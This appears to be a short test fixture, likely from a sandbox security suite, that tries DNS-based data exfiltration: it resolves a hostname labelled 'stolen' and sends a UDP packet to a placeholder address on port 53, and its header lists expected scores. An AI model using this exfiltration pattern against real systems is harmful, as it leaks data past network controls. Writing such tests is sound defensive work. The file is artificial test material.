# attack: Sends data out as questions for names.
# gain: read
# expect: q01=3 q02=3 q03=3
# flag: network

# %% after q01
import socket

try:
    print(socket.getaddrinfo("stolen.attack.example.invalid", 80))
except OSError as error:
    print(error)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
    try:
        udp.sendto(b"stolen", ("203.0.113.9", 53))
    except OSError as error:
        print(error)
